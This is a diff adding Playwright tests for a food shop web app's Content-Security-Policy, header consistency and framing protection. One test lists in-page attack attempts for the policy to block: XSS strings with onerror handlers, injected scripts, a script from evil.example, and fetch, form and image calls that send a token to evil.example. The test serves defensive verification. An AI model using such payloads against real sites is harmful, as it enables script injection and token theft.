@@ -1,0 +1,126 @@
+import { startMockServer } from '@my-food/mocks/server';
+import { expect, test as base } from '@playwright/test';
+import { createHash } from 'node:crypto';
+import { readdirSync, readFileSync } from 'node:fs';
+import { contentSecurityPolicy, responseHeaders } from '../../../content-security.ts';
+import { builds, folderOf, headersOf, type BuildName } from '../../build.ts';
+import { hostedTest } from '../../shop.ts';
+
+const pageOf = (build: BuildName) => readFileSync(`${folderOf(build)}index.html`, 'utf8');
+const metaPolicy = (page: string) =>
+  /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page)?.[1]?.replaceAll('&#39;', "'") ?? '';
+const digests = (page: string, element: RegExp) =>
+  [...page.matchAll(element)].map(([, text]) =>
+    createHash('sha256')
+      .update(text ?? '')
+      .digest('base64'),
+  );
+
+for (const build of ['shop', 'elsewhere', 'demo'] as const) {
+  base(`policy: module, page and headers of the ${build} build say the same, and nothing stands inline but what they list`, () => {
+    const page = pageOf(build);
+    const policy = contentSecurityPolicy({
+      origins: build === 'elsewhere' ? [builds.elsewhere.apiUrl] : [],
+      hasMockBackend: build === 'demo',
+      inline: { scripts: digests(page, /<script>(.*?)<\/script>/gs), styles: digests(page, /<style>(.*?)<\/style>/gs) },
+    });
+    expect(metaPolicy(page)).toBe(policy);
+    expect(headersOf(build)).toEqual(responseHeaders(policy));
+    // The policy stands before everything it is to hold for.
+    expect(page.indexOf('<meta http-equiv')).toBeLessThan(page.search(/<(script|link|style)/));
+    const markup = page.replaceAll(/<(script|style)>.*?<\/\1>/gs, '');
+    expect(markup.match(/<script(?![^>]*\ssrc=)|<style|\sstyle=|\son\w+=|javascript:/g)).toBeNull();
+    const scripts = readdirSync(`${folderOf(build)}assets`).filter((file) => file.endsWith('.js'));
+    const writesCode = /document\.write\(|[^.\w]eval\(/;
+    expect(scripts.filter((file) => writesCode.test(readFileSync(`${folderOf(build)}assets/${file}`, 'utf8')))).toEqual([]);
+  });
+}
+
+hostedTest('policy: the headers of a host are the ones that are sent', async ({ page, shop }) => {
+  const sent = await (await page.goto(shop.server.url))?.allHeaders();
+  const promised = Object.entries(headersOf('shop')).map(([name, value]) => [name.toLowerCase(), value]);
+  expect(promised.map(([name]) => name)).toContain('x-content-type-options');
+  expect(promised.filter(([name, value]) => sent?.[name ?? ''] !== value)).toEqual([]);
+});
+
+/** What an attacker with a foot in the page would try. */
+const attempts: Readonly<Record<string, () => unknown>> = {
+  'a string of HTML': () => void (document.body.innerHTML = '<img src=x onerror=__pwned=1>'),
+  // Later, for what the test itself evaluates is exempt.
+  'an evaluated string': () => void setTimeout(() => new Function('window.__pwned = 1')()),
+  'an inline script': () => {
+    const script = document.createElement('script');
+    script.append('window.__pwned = 1');
+    document.body.append(script);
+  },
+  'an inline handler': () => {
+    const image = document.createElement('img');
+    image.setAttribute('onerror', 'window.__pwned = 1');
+    image.setAttribute('src', 'none');
+    document.body.append(image);
+  },
+  'a foreign script': () => {
+    const script = document.createElement('script');
+    script.setAttribute('src', 'https://evil.example/x.js');
+    document.body.append(script);
+  },
+  'a policy of its own': () => Reflect.get(window, 'trustedTypes')?.createPolicy('evil', { createScriptURL: (address: string) => address }),
+  'a policy in the name of ours, before ours is used': () =>
+    Reflect.get(window, 'trustedTypes')?.createPolicy('my-food-receipt', { createScriptURL: (address: string) => address }),
+  'a form to elsewhere': () => {
+    const form = document.createElement('form');
+    form.action = 'https://evil.example/';
+    document.body.append(form);
+    form.submit();
+  },
+  'a call to elsewhere': () => fetch('https://evil.example/?token=x'),
+  'a picture from elsewhere': () => {
+    const image = document.createElement('img');
+    image.setAttribute('src', 'https://evil.example/?token=x');
+    document.body.append(image);
+  },
+};
+
+// Without the guard of the other tests: here a violation is what is wanted.
+base('policy: what an attacker in the page would try is stopped by the meta tag alone', async ({ page }) => {
+  const server = await startMockServer({ scenario: 'fourDishes', staticRoot: folderOf('shop') });
+  await page.goto(`${server.url}/#/login/`);
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  for (const [name, attempt] of Object.entries(attempts)) {
+    await base.step(name, async () => {
+      await page.evaluate(() => {
+        const directives: string[] = [];
+        Object.assign(window, { directives });
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.push(effectiveDirective), {
+          once: true,
+        });
+      });
+      await page.evaluate(attempt).catch(() => undefined);
+      await expect.poll(() => page.evaluate(() => Reflect.get(window, 'directives')), name).toHaveLength(1);
+    });
+  }
+  expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
+  expect(new URL(page.url()).origin).toBe(server.url);
+  await server.close();
+});
+
+base('policy: a page that frames the shop shows none of it, whether or not the host sends headers', async ({ page }) => {
+  for (const headers of [{}, headersOf('shop')]) {
+    const server = await startMockServer({ scenario: 'fourDishes', staticRoot: folderOf('shop'), headers });
+    const framing = await startMockServer();
+    await page.route(`${framing.url}/frame`, (route) =>
+      route.fulfill({ contentType: 'text/html', body: `<iframe src="${server.url}/"></iframe>` }),
+    );
+    await page.goto(`${framing.url}/frame`, { waitUntil: 'networkidle' });
+    const seen = await page
+      .frames()[1]
+      ?.evaluate(
+        () =>
+          [...document.querySelectorAll('h1, a, button, img')].filter((element) => element.checkVisibility({ visibilityProperty: true }))
+            .length,
+      );
+    expect(seen).toBe(0);
+    await server.close();
+    await framing.close();
+  }
+});
